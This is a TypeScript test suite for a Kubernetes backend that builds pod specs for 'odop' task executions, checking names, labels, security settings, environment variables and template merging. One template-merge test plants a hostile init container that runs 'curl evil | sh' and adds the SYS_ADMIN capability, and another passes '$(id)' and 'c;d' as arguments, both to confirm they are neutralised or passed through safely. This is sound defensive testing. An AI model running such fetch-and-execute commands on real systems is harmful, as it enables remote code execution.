/** The stage pod of one attempt: given (task, execution, options) → want pod fields. */
import type { V1Container, V1Pod } from "@kubernetes/client-node";
import { describe, expect, it } from "vitest";
import { formatCpuset } from "../../../src/api/cpuset.ts";
import { OpExecution } from "../../../src/api/opexecution.ts";
import { OpTask } from "../../../src/api/optask.ts";
import { PodSpecError } from "../../../src/backends/kubernetes/errors.ts";
import { annotationsProblem, labelKeyProblem, labelValueProblem, objectNameProblem } from "../../../src/backends/kubernetes/names.ts";
import { buildStagePod, type StagePodInput } from "../../../src/backends/kubernetes/pod-spec.ts";
import type { PodTemplate } from "../../../src/backends/kubernetes/pod-template.ts";
import { threadCount } from "../../../src/backends/run-forms.ts";
import { StageSpec } from "../../../src/staging/stage-spec.ts";

const UID = "0b5e1c1e-5a4f-4b8e-9d51-1f0c7c3f9a11";
const EXECUTION_ID = "6f1c2b0e-3d4a-4f5b-8c9d-0e1f2a3b4c5d";

function task(spec: Record<string, unknown> = {}, name = "compress"): OpTask {
  return OpTask.parse({
    apiVersion: "odop.io/v1alpha1",
    kind: "OpTask",
    metadata: { name, namespace: "science" },
    spec: { trigger: { manual: {} }, backend: "kubernetes", run: { image: "ghcr.io/lab/zstd:1.5", command: ["zstd", "-19"] }, ...spec },
  });
}

function execution(spec: Record<string, unknown> = {}, name = "compress-7f3a"): OpExecution {
  return OpExecution.parse({
    apiVersion: "odop.io/v1alpha1",
    kind: "OpExecution",
    metadata: { name, namespace: "science", uid: UID },
    spec: { taskRef: { name: "compress" }, executionId: EXECUTION_ID, trigger: { reason: "FileIn", files: ["/scratch/a.h5", "/scratch/b.h5"] }, ...spec },
  });
}

const STAGED = {
  stages: {
    configure: { inputs: [{ from: "/scratch/run1/snap.h5", to: "inputs/snap.h5" }] },
    publish: { outputs: [{ from: "outputs/snap.h5.zst", to: "s3://bucket/snaps/" }] },
  },
};

function input(extra: Partial<StagePodInput> = {}): StagePodInput {
  return {
    task: task(STAGED),
    execution: execution(),
    attempt: 2,
    node: "cn042",
    cores: [2, 3, 8],
    odopImage: "ghcr.io/odop/odop:0.1.0",
    workspace: { kind: "emptyDir" },
    ...extra,
  };
}

const all = (pod: V1Pod): V1Container[] => [...(pod.spec?.initContainers ?? []), ...(pod.spec?.containers ?? [])];
const container = (pod: V1Pod, name: string): V1Container => {
  const c = all(pod).find((x) => x.name === name);
  if (c === undefined) throw new Error(`no container ${name}`);
  return c;
};
const envOf = (c: V1Container) => Object.fromEntries((c.env ?? []).map((e) => [e.name, e.value ?? e.valueFrom]));

// Kubernetes' rules, written out independently of src/backends/kubernetes/names.ts.
const SUBDOMAIN = /^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$/;
const LABEL = /^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/;
const LABEL_VALUE = /^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$/;
const QUALIFIED_NAME = /^([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9]$/;
const ENV_NAME = /^[-._a-zA-Z][-._a-zA-Z0-9]*$/;

/** Everything the API server would check on the fields odop writes. */
function expectValidPod(pod: V1Pod): void {
  const name = pod.metadata?.name ?? "";
  expect(name.length).toBeLessThanOrEqual(253);
  expect(name).toMatch(SUBDOMAIN);
  for (const [key, value] of Object.entries(pod.metadata?.labels ?? {})) {
    const [prefix, label] = key.includes("/") ? key.split("/") : [undefined, key];
    if (prefix !== undefined) expect(prefix).toMatch(SUBDOMAIN);
    expect(label ?? "").toMatch(QUALIFIED_NAME);
    expect((label ?? "").length).toBeLessThanOrEqual(63);
    expect(value.length).toBeLessThanOrEqual(63);
    expect(value).toMatch(LABEL_VALUE);
  }
  const annotationBytes = Object.entries(pod.metadata?.annotations ?? {}).reduce((n, [k, v]) => n + Buffer.byteLength(k) + Buffer.byteLength(v), 0);
  expect(annotationBytes).toBeLessThanOrEqual(256 * 1024);
  const containers = all(pod);
  const names = containers.map((c) => c.name);
  expect(new Set(names).size).toBe(names.length);
  const volumes = new Map((pod.spec?.volumes ?? []).map((v) => [v.name, v]));
  expect(volumes.size).toBe(pod.spec?.volumes?.length ?? 0);
  for (const v of volumes.keys()) expect(v).toMatch(LABEL);
  for (const c of containers) {
    expect(c.name).toMatch(LABEL);
    expect(c.image).toBeTruthy();
    const envNames = (c.env ?? []).map((e) => e.name);
    expect(new Set(envNames).size).toBe(envNames.length);
    for (const e of envNames) expect(e).toMatch(ENV_NAME);
    const paths = (c.volumeMounts ?? []).map((m) => m.mountPath);
    expect(new Set(paths).size).toBe(paths.length);
    for (const m of c.volumeMounts ?? []) expect(volumes.has(m.name), `${c.name} mounts unknown volume ${m.name}`).toBe(true);
  }
  for (const item of (pod.spec?.volumes ?? []).flatMap((v) => v.downwardAPI?.items ?? [])) {
    const m = /^metadata\.annotations\['(.+)'\]$/.exec(item.fieldRef?.fieldPath ?? "");
    expect(m, item.fieldRef?.fieldPath).not.toBeNull();
    expect(pod.metadata?.annotations?.[m?.[1] ?? ""]).toBeDefined();
  }
}

describe("buildStagePod: the pod of one attempt", () => {
  it("places, labels, owns and secures the pod", () => {
    const tolerations = [{ key: "hpc", operator: "Exists", effect: "NoSchedule" }];
    const { pod } = buildStagePod(input({ tolerations, imagePullSecrets: ["regcred"] }));
    expectValidPod(pod);
    expect(pod.metadata).toMatchObject({
      name: "compress-7f3a-2",
      namespace: "science",
      labels: {
        "app.kubernetes.io/managed-by": "odop",
        "odop.io/task": "compress",
        "odop.io/execution": "compress-7f3a",
        "odop.io/execution-id": EXECUTION_ID,
        "odop.io/attempt": "2",
      },
      annotations: { "odop.io/cpuset": "2-3,8" },
    });
    expect(pod.metadata?.ownerReferences).toEqual([
      { apiVersion: "odop.io/v1alpha1", kind: "OpExecution", name: "compress-7f3a", uid: UID, controller: true, blockOwnerDeletion: true },
    ]);
    expect(pod.spec).toMatchObject({
      nodeName: "cn042",
      restartPolicy: "Never",
      automountServiceAccountToken: false,
      tolerations,
      imagePullSecrets: [{ name: "regcred" }],
      securityContext: { runAsNonRoot: true, seccompProfile: { type: "RuntimeDefault" } },
    });
    expect(pod.spec?.activeDeadlineSeconds).toBeUndefined();
    for (const c of all(pod)) {
      expect(c.securityContext, c.name).toMatchObject({ allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } });
    }
    expect(container(pod, "configure").securityContext?.readOnlyRootFilesystem).toBe(true);
    expect(container(pod, "publish").securityContext?.readOnlyRootFilesystem).toBe(true);
    expect(container(pod, "run").securityContext?.readOnlyRootFilesystem).toBeUndefined();
  });

  it.each([
    ["inputs and outputs", STAGED, ["configure", "run"], ["publish"]],
    ["inputs only", { stages: { configure: STAGED.stages.configure } }, ["configure", "run"], ["done"]],
    ["outputs only", { stages: { publish: STAGED.stages.publish } }, ["run"], ["publish"]],
    ["neither", {}, ["run"], ["done"]],
  ])("stages in order (%s)", (_, spec, init, main) => {
    const { pod } = buildStagePod(input({ task: task(spec) }));
    expectValidPod(pod);
    expect(pod.spec?.initContainers?.map((c) => c.name)).toEqual(init);
    expect(pod.spec?.containers.map((c) => c.name)).toEqual(main);
    const hasSpecs = init.includes("configure") || main.includes("publish");
    expect(pod.spec?.volumes?.some((v) => v.name === "odop-stage")).toBe(hasSpecs);
  });

  it("runs configure and publish as `odop stage <file>` with the spec projected from an annotation", () => {
    const { pod } = buildStagePod(input({ odopCommand: ["node", "/app/src/cli/odop.ts"] }));
    const volume = pod.spec?.volumes?.find((v) => v.name === "odop-stage");
    for (const stage of ["configure", "publish"] as const) {
      const c = container(pod, stage);
      expect(c.image).toBe("ghcr.io/odop/odop:0.1.0");
      expect(c.command).toEqual(["node", "/app/src/cli/odop.ts", "stage", `/odop/stage/${stage}.json`]);
      expect(c.args).toBeUndefined();
      expect(c.volumeMounts).toContainEqual({ name: "odop-stage", mountPath: "/odop/stage", readOnly: true });
      expect(volume?.downwardAPI?.items).toContainEqual({ path: `${stage}.json`, fieldRef: { fieldPath: `metadata.annotations['odop.io/${stage}-spec']` } });
      const spec = StageSpec.parse(JSON.parse(pod.metadata?.annotations?.[`odop.io/${stage}-spec`] ?? ""));
      expect(spec.stage).toBe(stage);
      expect(spec.workspace).toBe("/odop/workspace");
    }
    expect(JSON.parse(pod.metadata?.annotations?.["odop.io/configure-spec"] ?? "").inputs).toEqual([{ from: "/scratch/run1/snap.h5", to: "inputs/snap.h5", optional: false }]);
    expect(JSON.parse(pod.metadata?.annotations?.["odop.io/publish-spec"] ?? "").outputs).toEqual([{ from: "outputs/snap.h5.zst", to: "s3://bucket/snaps/", optional: false }]);
    expect(container(pod, "run").volumeMounts?.some((m) => m.name === "odop-stage")).toBe(false);
  });

  it("uses a task's own stage image, without a read-only root", () => {
    const t = task({ stages: { configure: { ...STAGED.stages.configure, image: "ghcr.io/lab/stager:2" } } });
    const { pod } = buildStagePod(input({ task: t }));
    expect(container(pod, "configure").image).toBe("ghcr.io/lab/stager:2");
    expect(container(pod, "configure").securityContext?.readOnlyRootFilesystem).toBe(false);
  });

  it.each([
    ["emptyDir", { kind: "emptyDir" } as const, { name: "workspace", emptyDir: {} }, undefined],
    ["pvc", { kind: "pvc", claimName: "scratch-ws" } as const, { name: "workspace", persistentVolumeClaim: { claimName: "scratch-ws" } }, "compress-7f3a"],
  ])("mounts one %s workspace at /odop/workspace in every stage", (_, workspace, volume, subPath) => {
    const { pod } = buildStagePod(input({ workspace }));
    expectValidPod(pod);
    expect(pod.spec?.volumes).toContainEqual(volume);
    for (const name of ["configure", "run", "publish"]) {
      const mount = container(pod, name).volumeMounts?.find((m) => m.name === "workspace");
      expect(mount, name).toEqual(subPath === undefined ? { name: "workspace", mountPath: "/odop/workspace" } : { name: "workspace", mountPath: "/odop/workspace", subPath });
    }
  });

  it("passes a script verbatim as one argv element", () => {
    const script = `set -euo pipefail\necho "it's $(date) and \`whoami\`" > 'out put.txt'\nfor f in "$@"; do zstd "$f"; done; rm -rf "$HOME"/x; echo \\$PATH\n`;
    const t = task({ run: { image: "debian:13", script, args: ["default"] } });
    const { pod } = buildStagePod(input({ task: t, execution: execution({ options: { args: ["a b", "$(id)", "c;d"] } }) }));
    const run = container(pod, "run");
    expect(run.command).toEqual(["bash", "-c", script, "odop-script"]);
    expect(run.args).toEqual(["a b", "$(id)", "c;d"]);
    expect(run.workingDir).toBe("/odop/workspace");
  });

  it.each([
    ["command", { image: "img", command: ["zstd", "-19"], args: ["x"] }, ["zstd", "-19"], ["x"]],
    ["image entrypoint", { image: "img", args: ["--fast"] }, undefined, ["--fast"]],
    ["python callable", { image: "img", module: "lab.ops", function: "compress" }, ["python3", "-c", expect.stringContaining("importlib"), "lab.ops", "compress"], undefined],
  ])("run stage: %s", (_, run, command, args) => {
    const { pod } = buildStagePod(input({ task: task({ run }) }));
    const c = container(pod, "run");
    expect(c.image).toBe("img");
    expect(c.command).toEqual(command);
    expect(c.args).toEqual(args);
  });

  it.each([
    [undefined, "/odop/workspace"],
    ["outputs", "/odop/workspace/outputs"],
    ["/opt/app", "/opt/app"],
  ])("workingDir %s → %s", (workingDir, want) => {
    const t = task({ run: { image: "img", ...(workingDir === undefined ? {} : { workingDir }) } });
    expect(container(buildStagePod(input({ task: t })).pod, "run").workingDir).toBe(want);
  });

  it("gives every stage the ODOP_* environment, then run.env, then options.env", () => {
    const t = task({
      ...STAGED,
      requirements: { threads: { max: 2 } },
      run: {
        image: "img",
        env: [
          { name: "LEVEL", value: "19" },
          { name: "AWS_SECRET_ACCESS_KEY", valueFrom: { secretKeyRef: { name: "s3-creds", key: "secret" } } },
        ],
      },
    });
    const e = execution({ options: { env: [{ name: "LEVEL", value: "3" }] } });
    const { pod } = buildStagePod(input({ task: t, execution: e }));
    for (const name of ["configure", "run", "publish"]) {
      expect(envOf(container(pod, name)), name).toEqual({
        ODOP_TASK: "compress",
        ODOP_NAMESPACE: "science",
        ODOP_EXECUTION: "compress-7f3a",
        ODOP_EXECUTION_ID: EXECUTION_ID,
        ODOP_TRIGGER_REASON: "FileIn",
        ODOP_TRIGGER_FILES: "/scratch/a.h5\n/scratch/b.h5",
        ODOP_WORKSPACE: "/odop/workspace",
        ODOP_INPUTS: "/odop/workspace/inputs",
        ODOP_OUTPUTS: "/odop/workspace/outputs",
        ODOP_CORES: "2-3,8",
        ODOP_THREADS: "2",
        OMP_NUM_THREADS: "2",
        LEVEL: "3",
        AWS_SECRET_ACCESS_KEY: { secretKeyRef: { name: "s3-creds", key: "secret" } },
        // Names the container for the node agent's freezer.
        ODOP_STAGE: name,
      });
    }
  });

  it.each([
    [{}, [0, 1, 2]],
    [{ threads: { min: 4 } }, [0]],
    [{ threads: { max: 2 } }, [0, 1, 2, 3]],
    [{ threads: { min: 1, max: 8 } }, [5, 6]],
  ])("ODOP_THREADS follows the local backend's rule (%j, cores %j)", (threads, cores) => {
    const t = task({ requirements: threads });
    const env = envOf(container(buildStagePod(input({ task: t, cores })).pod, "run"));
    expect(env["ODOP_THREADS"]).toBe(String(threadCount(t, cores.length)));
    expect(env["OMP_NUM_THREADS"]).toBe(env["ODOP_THREADS"]);
  });

  type Quantities = Record<string, string> | undefined;
  it.each<[string, object | undefined, Quantities, Quantities]>([
    ["none", undefined, undefined, undefined],
    ["cpu and memory ranges", { cpu: { min: "500m", max: 2 }, memory: { min: "1Gi", max: "4Gi" } }, { cpu: "500m", memory: "1Gi" }, { cpu: "2", memory: "4Gi" }],
    ["min only", { cpu: { min: 1 } }, { cpu: "1" }, undefined],
    ["gpus (max)", { gpu: { min: 1, max: 2 } }, undefined, { "nvidia.com/gpu": "2" }],
    ["gpus (min)", { gpu: { min: 1 } }, undefined, { "nvidia.com/gpu": "1" }],
    ["zero gpus", { gpu: { max: 0 } }, undefined, undefined],
  ])("run resources: %s", (_, requirements, requests, limits) => {
    const t = task({ ...STAGED, ...(requirements === undefined ? {} : { requirements }) });
    const { pod } = buildStagePod(input({ task: t }));
    const run = container(pod, "run");
    expect(run.resources?.requests).toEqual(requests);
    expect(run.resources?.limits).toEqual(limits);
    for (const name of ["configure", "publish"]) {
      // odop's containers take the run's cpu and memory, never its GPUs.
      const r = container(pod, name).resources;
      expect(r?.limits?.["nvidia.com/gpu"]).toBeUndefined();
      expect(r?.requests?.["cpu"]).toBe(requests?.["cpu"]);
      expect(r?.limits?.["memory"]).toBe(limits?.["memory"]);
    }
  });

  it.each([
    ["Guaranteed, whole cpus = cores", { cpu: { min: 3, max: 3 }, memory: { min: "2Gi", max: "2Gi" } }, [2, 3, 8], undefined, true, /if it runs --cpu-manager-policy=static on cn042\) pins each stage to 3 exclusive cores.*odop chose 2-3,8/],
    ["Guaranteed, kubelet known static", { cpu: { min: 2, max: 2 }, memory: { min: "1Gi", max: "1Gi" } }, [4, 5], "static", true, /^Guaranteed QoS with 2 whole cpus: the kubelet pins/],
    ["limits only (requests default to them)", { cpu: { max: 2 }, memory: { max: "1Gi" } }, [4, 5], undefined, true, /Guaranteed/],
    ["requests ≠ limits", { cpu: { min: 1, max: 2 }, memory: { min: "1Gi", max: "1Gi" } }, [4, 5], undefined, false, /not Guaranteed QoS \(cpu requests 1 ≠ limits 2\)/],
    ["memory requests ≠ limits", { cpu: { min: 2, max: 2 }, memory: { min: "1Gi", max: "2Gi" } }, [4, 5], undefined, false, /memory requests 1Gi ≠ limits 2Gi/],
    ["no memory limit", { cpu: { min: 2, max: 2 } }, [4, 5], undefined, false, /no memory limit/],
    ["no cpu limit", { memory: { min: "1Gi", max: "1Gi" } }, [4, 5], undefined, false, /no cpu limit/],
    ["fractional cpu", { cpu: { min: "1500m", max: "1500m" }, memory: { min: "1Gi", max: "1Gi" } }, [4, 5], undefined, false, /1500m is not a whole number/],
    ["count ≠ cores", { cpu: { min: 4, max: 4 }, memory: { min: "1Gi", max: "1Gi" } }, [4, 5], undefined, false, /asks for 4 cpus but odop chose 2 cores/],
    ["no static CPU manager", { cpu: { min: 2, max: 2 }, memory: { min: "1Gi", max: "1Gi" } }, [4, 5], "none", false, /does not run the static CPU manager/],
  ] as const)("pinning: %s", (_, requirements, cores, cpuManagerPolicy, pinned, note) => {
    const t = task({ ...STAGED, requirements });
    const { pod, pinning } = buildStagePod(input({ task: t, cores: [...cores], ...(cpuManagerPolicy === undefined ? {} : { cpuManagerPolicy }) }));
    expect(pinning.pinned).toBe(pinned);
    expect(pinning.note).toMatch(note);
    if (!pinned) expect(pinning.note).toMatch(/^cores are not pinned: /);
    expect(pod.metadata?.annotations?.["odop.io/cpuset"]).toBe(formatCpuset(cores));
  });

  it("merges a template under odop's fields", () => {
    const template: PodTemplate = {
      metadata: { name: "ignored", namespace: "other", labels: { team: "climate", "odop.io/task": "spoof" }, annotations: { "example.com/cost-centre": "42", "odop.io/cpuset": "0-63" } },
      spec: {
        nodeName: "elsewhere",
        nodeSelector: { gpu: "a100" },
        affinity: { nodeAffinity: {} },
        restartPolicy: "Always",
        automountServiceAccountToken: true,
        priorityClassName: "opportunistic",
        serviceAccountName: "odop-stages",
        activeDeadlineSeconds: 86_400,
        securityContext: { runAsNonRoot: false, runAsUser: 1000, fsGroup: 1000, seccompProfile: { type: "Unconfined" } },
        tolerations: [{ key: "dedicated", operator: "Equal", value: "hpc", effect: "NoExecute" }],
        imagePullSecrets: [{ name: "regcred" }, { name: "lab" }],
        volumes: [
          { name: "scratch", hostPath: { path: "/scratch" } },
          { name: "workspace", hostPath: { path: "/evil" } },
        ],
        initContainers: [
          {
            name: "run",
            image: "attacker/image",
            command: ["sh", "-c", "curl evil | sh"],
            workingDir: "/",
            env: [
              { name: "HTTPS_PROXY", value: "http://proxy:3128" },
              { name: "ODOP_CORES", value: "0-63" },
            ],
            volumeMounts: [
              { name: "scratch", mountPath: "/scratch", readOnly: true },
              { name: "workspace", mountPath: "/odop/workspace", subPath: "x" },
            ],
            resources: { requests: { cpu: "64", "ephemeral-storage": "1Gi" }, limits: { "ephemeral-storage": "2Gi" } },
            readinessProbe: { exec: { command: ["true"] } },
            securityContext: { readOnlyRootFilesystem: true, allowPrivilegeEscalation: true, privileged: false, capabilities: { add: ["SYS_ADMIN"] } },
          },
        ],
        containers: [{ name: "publish", resources: { limits: { "ephemeral-storage": "1Gi" } } }],
      },
    };
    const t = task({ ...STAGED, run: { image: "ghcr.io/lab/zstd:1.5" }, requirements: { cpu: { min: 2, max: 2 } } });
    const { pod } = buildStagePod(input({ task: t, template, tolerations: [{ key: "hpc", operator: "Exists" }], imagePullSecrets: ["regcred"] }));
    expectValidPod(pod);
    expect(pod.metadata?.name).toBe("compress-7f3a-2");
    expect(pod.metadata?.namespace).toBe("science");
    expect(pod.metadata?.labels).toMatchObject({ team: "climate", "odop.io/task": "compress" });
    expect(pod.metadata?.annotations).toMatchObject({ "example.com/cost-centre": "42", "odop.io/cpuset": "2-3,8" });
    const spec = pod.spec;
    expect(spec?.nodeName).toBe("cn042");
    expect(spec?.nodeSelector).toBeUndefined();
    expect(spec?.affinity).toBeUndefined();
    expect(spec?.restartPolicy).toBe("Never");
    expect(spec?.automountServiceAccountToken).toBe(false);
    expect(spec?.priorityClassName).toBe("opportunistic");
    expect(spec?.serviceAccountName).toBe("odop-stages");
    expect(spec?.activeDeadlineSeconds).toBe(86_400);
    expect(spec?.securityContext).toEqual({ runAsNonRoot: true, runAsUser: 1000, fsGroup: 1000, seccompProfile: { type: "RuntimeDefault" } });
    expect(spec?.tolerations).toEqual([
      { key: "dedicated", operator: "Equal", value: "hpc", effect: "NoExecute" },
      { key: "hpc", operator: "Exists" },
    ]);
    expect(spec?.imagePullSecrets).toEqual([{ name: "regcred" }, { name: "lab" }]);
    expect(spec?.volumes).toContainEqual({ name: "scratch", hostPath: { path: "/scratch" } });
    expect(spec?.volumes).toContainEqual({ name: "workspace", emptyDir: {} });
    expect(spec?.volumes?.filter((v) => v.name === "workspace")).toHaveLength(1);
    expect(spec?.initContainers?.map((c) => c.name)).toEqual(["configure", "run"]);

    const run = container(pod, "run");
    expect(run.image).toBe("ghcr.io/lab/zstd:1.5");
    expect(run.command).toBeUndefined(); // the image's entrypoint, not the template's command
    expect(run.workingDir).toBe("/odop/workspace");
    expect(run.readinessProbe).toBeUndefined();
    const env = envOf(run);
    expect(env["HTTPS_PROXY"]).toBe("http://proxy:3128");
    expect(env["ODOP_CORES"]).toBe("2-3,8");
    expect(run.env?.[0]?.name).toBe("HTTPS_PROXY");
    expect(run.volumeMounts).toEqual([
      { name: "scratch", mountPath: "/scratch", readOnly: true },
      { name: "workspace", mountPath: "/odop/workspace" },
    ]);
    expect(run.resources).toEqual({ requests: { cpu: "2", "ephemeral-storage": "1Gi" }, limits: { cpu: "2", "ephemeral-storage": "2Gi" } });
    expect(run.securityContext).toEqual({ readOnlyRootFilesystem: true, allowPrivilegeEscalation: false, privileged: false, capabilities: { drop: ["ALL"] } });
    expect(container(pod, "publish").resources?.limits).toEqual({ "ephemeral-storage": "1Gi", cpu: "2" });
  });

  it("refuses a template with containers odop does not run", () => {
    const template: PodTemplate = { spec: { containers: [{ name: "sidecar", image: "fluentbit" }] } };
    expect(() => buildStagePod(input({ template }))).toThrow(expect.objectContaining({ reason: "InvalidTemplate", message: expect.stringMatching(/sidecar/) }));
  });

  it("takes the pinning note from the merged pod", () => {
    const t = task({ ...STAGED, requirements: { cpu: { min: 3, max: 3 }, memory: { min: "1Gi", max: "1Gi" } } });
    const template: PodTemplate = { spec: { containers: [{ name: "publish", resources: { requests: { memory: "512Mi" } } }] } };
    // odop's memory request wins, so the pod stays Guaranteed.
    expect(buildStagePod(input({ task: t, template })).pinning.pinned).toBe(true);
    const loose = task({ ...STAGED, requirements: { cpu: { min: 3, max: 3 } } });
    const withMemory: PodTemplate = { spec: { initContainers: [{ name: "run", resources: { requests: { memory: "1Gi" }, limits: { memory: "2Gi" } } }] } };
    expect(buildStagePod(input({ task: loose, template: withMemory })).pinning.note).toMatch(/configure container has no memory limit/);
  });

  it.each([
    ["no image", () => input({ task: task({ backend: "local", run: { command: ["true"] } }) }), "NoImage"],
    ["no owner uid", () => input({ execution: { ...execution(), metadata: { name: "compress-7f3a", namespace: "science" } } }), "NoOwnerUid"],
    [
      "annotations over 256 KiB",
      () => input({ task: task({ stages: { configure: { inputs: Array.from({ length: 100 }, (_, i) => ({ from: `/scratch/${"x".repeat(4000)}/${i}`, to: `inputs/${i}` })) } } }) }),
      "InvalidName",
    ],
    ["a label value over 63 characters", () => input({ template: { metadata: { labels: { team: "x".repeat(64) } } } }), "InvalidName"],
  ])("refuses %s with a PodSpecError", (_, make, reason) => {
    let error: unknown;
    try {
      buildStagePod(make());
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(PodSpecError);
    expect((error as PodSpecError).reason).toBe(reason);
  });

  it("keeps names valid for the longest execution names the schema allows", () => {
    const name = `${"t".repeat(50)}-${"e".repeat(12)}`; // 63: OpExecution's limit
    const { pod } = buildStagePod(input({ execution: execution({}, name), attempt: 100 }));
    expectValidPod(pod);
    expect(pod.metadata?.name).toBe(`${name}-100`);
  });
});

describe("Kubernetes naming rules", () => {
  it.each([
    ["compress-7f3a-2", true],
    ["a.b-c", true],
    ["Compress", false],
    ["-x", false],
    ["x_y", false],
    ["x".repeat(253), true],
    ["x".repeat(254), false],
  ])("object name %s → valid %s", (name, ok) => {
    expect(objectNameProblem(name) === undefined).toBe(ok);
  });

  it.each([
    ["", true],
    ["v1.2_beta-3", true],
    ["x".repeat(63), true],
    ["x".repeat(64), false],
    ["-x", false],
    ["a b", false],
  ])("label value %j → valid %s", (value, ok) => {
    expect(labelValueProblem(value) === undefined).toBe(ok);
  });

  it.each([
    ["odop.io/task", true],
    ["app.kubernetes.io/managed-by", true],
    ["team", true],
    ["Odop_IO/x", false],
    [`odop.io/${"x".repeat(64)}`, false],
  ])("label key %s → valid %s", (key, ok) => {
    expect(labelKeyProblem(key) === undefined).toBe(ok);
  });

  it("counts annotation bytes", () => {
    expect(annotationsProblem({ a: "x".repeat(256 * 1024 - 1) })).toBeUndefined();
    expect(annotationsProblem({ a: "x".repeat(256 * 1024) })).toMatch(/more than Kubernetes' 262144/);
  });
});
